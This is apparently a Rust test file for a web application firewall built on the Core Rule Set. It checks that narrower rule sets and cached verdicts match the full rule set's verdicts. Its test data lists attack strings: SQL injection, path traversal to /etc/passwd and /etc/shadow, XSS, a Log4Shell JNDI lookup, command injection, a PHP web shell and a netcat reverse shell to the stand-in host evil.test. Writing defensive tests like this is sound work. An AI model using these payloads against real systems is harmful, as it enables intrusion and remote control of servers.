//! The narrower rule sets give the verdicts and rule ids of the whole CRS: thousands of
//! requests that fit a narrower class (the CRS's own phrase lists, known attacks and random
//! text in the path, query, cookies and fields) are run through both and compared.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};

use http::{HeaderMap, HeaderName, HeaderValue};
use myriad_seeded::SeededRng;

use super::*;

/// Attacks besides the CRS's phrase lists, in the bytes the narrower classes allow and not.
const ATTACKS: &[&str] = &[
    "union select password from users",
    "1 or 1=1",
    "admin' --",
    "1; drop table users",
    "sleep(5)",
    "benchmark(10000000,md5(1))",
    "/etc/passwd",
    "../../../../etc/shadow",
    "..\\..\\windows\\win.ini",
    "<script>alert(1)</script>",
    "javascript:alert(document.cookie)",
    "<img src=x onerror=alert(1)>",
    "${jndi:ldap://evil.test/a}",
    ";cat /etc/passwd",
    "$(whoami)",
    "`id`",
    "| nc -e /bin/sh evil.test 4444",
    "<?php system($_GET[c]); ?>",
    "php://filter/convert.base64-encode/resource=index",
    "http://169.254.169.254/latest/meta-data",
    "file:///etc/passwd",
    "cmd.exe /c dir",
    "powershell -enc abc",
    "java.lang.Runtime.getRuntime().exec",
    "eval(base64_decode(x))",
    "document.cookie",
    "select * from information_schema.tables",
    "waitfor delay '0:0:5'",
    "nikto",
    "sqlmap/1.5",
    "%27%20or%201%3D1",
    "..%2f..%2fetc%2fpasswd",
];

/// The verdict and every rule id logged, from one rule set.
fn logged_verdict(
    waf: &Waf,
    set: &RuleSet,
    target: &str,
    headers: &HeaderMap,
) -> (Option<Verdict>, Vec<String>) {
    let logged = Arc::new(Mutex::new(Vec::new()));
    let sink = Arc::clone(&logged);
    let request = Inspected::get(target, headers);
    let verdict = waf.evaluate(set, &request, None, move |m| {
        if let (Some(m), Ok(mut ids)) = (m, sink.lock()) {
            ids.extend(rule_ids(m));
        }
    });
    let ids = logged.lock().map(|ids| ids.clone()).unwrap_or_default();
    (verdict, ids)
}

/// An API client's fields.
fn minimal_headers() -> HeaderMap {
    let mut h = HeaderMap::new();
    for (name, value) in [
        ("host", "site.test"),
        ("user-agent", "curl/8.5.0"),
        ("accept", "*/*"),
    ] {
        h.insert(name, HeaderValue::from_static(value));
    }
    h
}

/// Chromium's fields for a page, Client Hints included.
fn browser_headers() -> HeaderMap {
    let mut h = HeaderMap::new();
    for (name, value) in [
        ("host", "site.test"),
        (
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        ),
        ("accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
        ("accept-language", "en-US,en;q=0.9"),
        ("accept-encoding", "gzip, deflate, br"),
        ("sec-ch-ua", "\"Not_A Brand\";v=\"8\", \"Chromium\";v=\"120\""),
        ("sec-ch-ua-platform", "\"Linux\""),
    ] {
        h.insert(name, HeaderValue::from_static(value));
    }
    h
}

/// Requests carrying `text` in one place each: path, query value and name, cookie,
/// User-Agent, Referer, another field's value.
fn requests_with(text: &str, base: &HeaderMap) -> Vec<(String, HeaderMap)> {
    let mut out = Vec::new();
    let path_safe: String = text.replace(['?', '#', ' '], "/");
    out.push((format!("/a/{path_safe}"), base.clone()));
    let query_safe: String = text.replace(['#', ' ', '&'], "+");
    out.push((format!("/search?q={query_safe}&page=2"), base.clone()));
    out.push((format!("/search?{query_safe}=1"), base.clone()));
    let Ok(value) = HeaderValue::from_str(text) else {
        return out;
    };
    for (name, v) in [
        (
            "cookie",
            HeaderValue::from_str(&format!("session=abc; pref={text}")).ok(),
        ),
        ("user-agent", Some(value.clone())),
        (
            "referer",
            HeaderValue::from_str(&format!("https://site.test/{text}")).ok(),
        ),
        ("x-custom", Some(value)),
    ] {
        if let Some(v) = v {
            let mut h = base.clone();
            h.insert(HeaderName::from_static(name), v);
            out.push(("/index.html".to_owned(), h));
        }
    }
    out
}

/// The phrases of each of the CRS's `.data` lists.
fn crs_phrase_lists() -> Vec<Vec<String>> {
    let mut files: Vec<_> = std::fs::read_dir(&WafConfig::default().rules_dir)
        .expect("the CRS is installed")
        .flatten()
        .map(|d| d.path())
        .filter(|p| p.extension().is_some_and(|x| x == "data"))
        .collect();
    files.sort();
    files
        .iter()
        .map(|path| {
            classes::phrases(&path.display().to_string())
                .unwrap_or_default()
                .iter()
                .map(|p| String::from_utf8_lossy(p).into_owned())
                .collect()
        })
        .collect()
}

/// Deterministic text over `alphabet` (ASCII).
fn random_text(alphabet: &[u8], rng: &mut SeededRng, len: usize) -> String {
    rng.text(alphabet, len)
        .into_iter()
        .map(char::from)
        .collect()
}

#[test]
fn narrower_rule_sets_give_the_whole_sets_verdicts() {
    let waf = Waf::load(&WafConfig {
        verdict_cache_bytes: 0,
        ..WafConfig::default()
    })
    .expect("CRS loads (scripts/setup installs it)");
    assert!(!waf.narrower.is_empty(), "the CRS is analysable");
    eprintln!(
        "rules: {} in the whole set, {:?} in the narrower ones",
        waf.whole.rule_count,
        waf.narrower
            .iter()
            .map(|s| s.rule_count)
            .collect::<Vec<_>>()
    );
    for set in &waf.narrower {
        assert!(
            set.rule_count < waf.whole.rule_count,
            "a narrower set drops rules ({} of {})",
            set.rule_count,
            waf.whole.rule_count
        );
    }
    let mut texts: Vec<String> = ATTACKS.iter().map(|s| (*s).to_owned()).collect();
    // The CRS's phrase lists, every 7th phrase of each, bounded.
    for list in crs_phrase_lists() {
        texts.extend(list.into_iter().step_by(7).take(30));
    }
    let mut rng = SeededRng::new(0x9E37_79B9_7F4A_7C15);
    let printable: Vec<u8> = (b' '..=b'~').collect();
    for len in [1, 2, 3, 5, 8, 13, 21, 34] {
        for _ in 0..15 {
            texts.push(random_text(&printable, &mut rng, len));
        }
    }
    // For each narrower set: requests compared, and of them those some rule matched.
    let mut compared: BTreeMap<usize, (usize, usize)> = BTreeMap::new();
    let bases = [minimal_headers(), browser_headers()];
    for (text, base) in texts.iter().flat_map(|t| bases.iter().map(move |b| (t, b))) {
        for (target, headers) in requests_with(text, base) {
            let request = Inspected::get(&target, &headers);
            let (index, set, _) = waf.rules_for(&request);
            if index == waf.narrower.len() {
                continue;
            }
            let narrow = logged_verdict(&waf, set, &target, &headers);
            let whole = logged_verdict(&waf, &waf.whole, &target, &headers);
            assert_eq!(
                narrow, whole,
                "different verdicts for {target} with {headers:?}"
            );
            let entry = compared.entry(index).or_default();
            entry.0 += 1;
            entry.1 += usize::from(!whole.1.is_empty());
        }
    }
    eprintln!("requests compared (and flagged) per narrower set: {compared:?}");
    for index in 0..waf.narrower.len() {
        let (n, flagged) = compared.get(&index).copied().unwrap_or_default();
        assert!(n >= 100, "set {index}: only {n} requests compared");
        assert!(
            flagged >= 10,
            "set {index}: rules matched only {flagged} of {n}"
        );
    }
}

/// A remembered verdict answers only for requests the rules judge alike: field values left
/// out of the key never change a verdict.
#[test]
fn remembered_verdicts_answer_only_for_requests_judged_alike() {
    let waf = Waf::load(&WafConfig::default()).expect("CRS loads");
    let judge = |headers: &HeaderMap, remembered: bool| {
        let request = Inspected::get("/index.html?v=3", headers);
        if remembered {
            waf.check(&request, None)
        } else {
            waf.evaluate(&waf.whole, &request, None, |_| {})
        }
    };
    let with = |name: &'static str, value: &str| {
        let mut h = browser_headers();
        h.insert(
            HeaderName::from_static(name),
            HeaderValue::from_str(value).unwrap(),
        );
        h
    };
    // Request ids and trace contexts share one verdict: their keys are the same.
    let key = |h: &HeaderMap| {
        let request = Inspected::get("/index.html?v=3", h);
        let (index, set, shape) = waf.rules_for(&request);
        waf.verdicts
            .key(index, &set.field_readers, &request, &shape)
    };
    assert_eq!(
        key(&with("x-request-id", "1")),
        key(&with("x-request-id", "982734"))
    );
    assert_eq!(
        key(&with(
            "traceparent",
            "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"
        )),
        key(&with(
            "traceparent",
            "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"
        ))
    );
    assert_ne!(key(&with("user-agent", "a")), key(&with("user-agent", "b")));
    // So do the Referers of pages: the rules read them, but none matches these.
    let page = |i: usize| format!("https://site.test/articles/page-{i}?from=home&utm_id=x%2F{i}");
    assert_eq!(
        key(&with("referer", &page(1))),
        key(&with("referer", &page(2)))
    );
    for attack in [
        "https://site.test/?q=<script>",
        "https://site.test/?id=1' or '1'='1",
    ] {
        assert_ne!(
            key(&with("referer", &page(1))),
            key(&with("referer", attack))
        );
    }
    // The rules that look for `../` in every field leave the Referer out (CRS 930100,
    // 930110): pages reached through relative links share a key too.
    assert_eq!(
        key(&with("referer", "https://site.test/blog/../about.html")),
        key(&with("referer", "https://site.test/docs/../index.html"))
    );
    // A value too long for a key is judged anew, never remembered (nor asked about).
    assert_eq!(key(&with("referer", &"a".repeat(5000))), None);
    // And sessions' cookies, pair by pair: names and their number are kept.
    let session = |sid: &str| format!("theme=dark; sid={sid}");
    assert_eq!(
        key(&with("cookie", &session("9f86d081884c7d65"))),
        key(&with("cookie", &session("2c26b46b68ffc68f")))
    );
    for other in [
        "theme=dark; sid=1' or '1'='1",
        "theme=dark; sid=a; x=b",
        "theme=dark",
    ] {
        assert_ne!(
            key(&with("cookie", &session("9f86d081"))),
            key(&with("cookie", other))
        );
    }
    // Every attack and random text in a field, judged after plain values were remembered:
    // the same verdict as the whole rule set's without memory.
    for i in 0..50 {
        judge(&with("x-custom", &i.to_string()), true);
        judge(&with("referer", &page(i)), true);
        judge(
            &with("cookie", &session(&format!("{:016x}", i * 0x9E37_79B9))),
            true,
        );
    }
    let mut texts: Vec<String> = ATTACKS.iter().map(|s| (*s).to_owned()).collect();
    // Attacks in a Referer's query, as written and encoded in the ways the rules decode.
    for attack in ATTACKS {
        let encoded: String =
            percent_encoding::utf8_percent_encode(attack, percent_encoding::NON_ALPHANUMERIC)
                .collect();
        let entities = attack
            .replace('<', "&lt;")
            .replace('>', "&GT")
            .replace('\'', "&#39;");
        for query in [*attack, &encoded, &entities] {
            texts.push(format!("https://site.test/page?q={query}&from=home"));
        }
    }
    let mut rng = SeededRng::new(0x2545_F491_4F6C_DD1D);
    let printable: Vec<u8> = (b' '..=b'~').collect();
    for len in [1, 3, 8, 21] {
        for _ in 0..30 {
            texts.push(random_text(&printable, &mut rng, len));
        }
    }
    let mut flagged = 0;
    for text in texts.iter().filter(|t| HeaderValue::from_str(t).is_ok()) {
        let fields = [
            ("x-custom", text.clone()),
            ("referer", text.clone()),
            ("accept-language", text.clone()),
            ("cookie", session(text)),
            ("cookie", format!("sid={text} ; theme=dark ")),
            ("cookie", text.clone()),
        ];
        for (name, value) in &fields {
            let h = with(name, value);
            let whole = judge(&h, false);
            assert_eq!(judge(&h, true), whole, "{name}: {value}");
            flagged += usize::from(whole.is_some());
        }
    }
    assert!(flagged >= 5, "only {flagged} flagged");
}

/// Query values no rule could match are left out of a remembered verdict's key (their
/// lengths kept); every attack and random text in a query value, judged after plain ones
/// were remembered, gets the whole rule set's verdict without memory.
#[test]
fn query_values_left_out_answer_alike() {
    let waf = Waf::load(&WafConfig::default()).expect("CRS loads");
    let headers = browser_headers();
    let key = |target: &str| {
        let request = Inspected::get(target, &headers);
        let (index, set, shape) = waf.rules_for(&request);
        waf.verdicts
            .key(index, &set.field_readers, &request, &shape)
            .expect("short enough")
    };
    assert_eq!(key("/obj/1024?page=17"), key("/obj/1024?page=42"));
    assert_eq!(
        key("/items?sort=price&id=9f86d081884c7d65"),
        key("/items?sort=title&id=2c26b46b68ffc68f")
    );
    assert_ne!(
        key("/obj/1024?page=17"),
        key("/obj/1024?page=7"),
        "lengths kept"
    );
    assert_ne!(
        key("/obj/1024?page=17"),
        key("/obj/1024?size=17"),
        "names kept"
    );
    assert_ne!(
        key("/obj/1024?page=17"),
        key("/obj/2048?page=17"),
        "paths kept"
    );
    // Search terms, written with `+` or escapes, are left out by their decoded length.
    assert_eq!(
        key("/search?q=blue+shoes&page=2"),
        key("/search?q=navy+boots&page=3")
    );
    assert_eq!(
        key("/search?q=blue%20shoes&page=2"),
        key("/search?q=navy%20boots&page=3")
    );
    // Targets whose reading is uncertain here, and values a rule matches, stay whole.
    for kept in [
        "/obj/1024?page=1%zz",
        "/obj/1024?page=17#top",
        "/obj/1024?page=/etc/passwd",
        "/obj/1024?page=..%2F..%2Fetc%2Fpasswd",
        "/obj/1024?q=union+select+password+from+users",
        "/obj/1024?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    ] {
        assert!(
            key(kept).contains(&format!(" {kept} ")),
            "{kept}: {}",
            key(kept)
        );
    }
    let judge = |target: &str, remembered: bool| {
        let request = Inspected::get(target, &headers);
        if remembered {
            waf.check(&request, None)
        } else {
            waf.evaluate(&waf.whole, &request, None, |_| {})
        }
    };
    for i in 0..50 {
        judge(&format!("/search?q=item{i}&page={i}"), true);
        judge(&format!("/obj/1024?page={i}"), true);
    }
    let mut texts: Vec<String> = ATTACKS.iter().map(|s| (*s).to_owned()).collect();
    let mut rng = SeededRng::new(0x51_7CC1_B727_220A);
    let printable: Vec<u8> = (b'!'..=b'~').collect();
    let unreserved: Vec<u8> = (b'a'..=b'z').chain(b'0'..=b'9').chain(*b"-._~").collect();
    for len in [1, 3, 8, 21] {
        for _ in 0..30 {
            texts.push(random_text(&printable, &mut rng, len));
            texts.push(random_text(&unreserved, &mut rng, len));
        }
    }
    // The CRS's phrases (`union`, `passwd`, ...), their spaces and slashes as dots.
    for list in crs_phrase_lists() {
        texts.extend(
            list.into_iter()
                .map(|p| p.replace([' ', '/'], "."))
                .step_by(5)
                .take(20),
        );
    }
    let (mut flagged, mut shared) = (0, 0);
    for text in &texts {
        // As a form writes it (`+` for spaces, the rest escaped), wholly escaped, and with
        // only what would split it escaped.
        use percent_encoding::{utf8_percent_encode, NON_ALPHANUMERIC};
        const FORM: &percent_encoding::AsciiSet = &NON_ALPHANUMERIC
            .remove(b' ')
            .remove(b'-')
            .remove(b'.')
            .remove(b'_')
            .remove(b'~');
        let form = utf8_percent_encode(text, FORM)
            .to_string()
            .replace(' ', "+");
        let escaped = utf8_percent_encode(text, NON_ALPHANUMERIC).to_string();
        let raw = text
            .replace('%', "%25")
            .replace('&', "%26")
            .replace('#', "%23")
            .replace(' ', "+");
        for target in [form, escaped, raw].iter().flat_map(|value| {
            [
                format!("/search?q={value}&page=2"),
                format!("/search?q=item1&page={value}"),
                format!("/obj/1024?page={value}"),
            ]
        }) {
            let whole = judge(&target, false);
            assert_eq!(judge(&target, true), whole, "{target}");
            flagged += usize::from(whole.is_some());
            // `/obj/1024` has no other argument: the varied value was left out.
            shared += usize::from(
                target.starts_with("/obj/")
                    && key(&target).contains(&format!("?page={}", verdicts::LEFT_OUT)),
            );
        }
    }
    eprintln!(
        "{} query targets: {flagged} flagged; of the varied values, {shared} left out",
        texts.len() * 9
    );
    assert!(flagged >= 20, "only {flagged} flagged");
    assert!(shared >= 100, "only {shared} left values out");
}
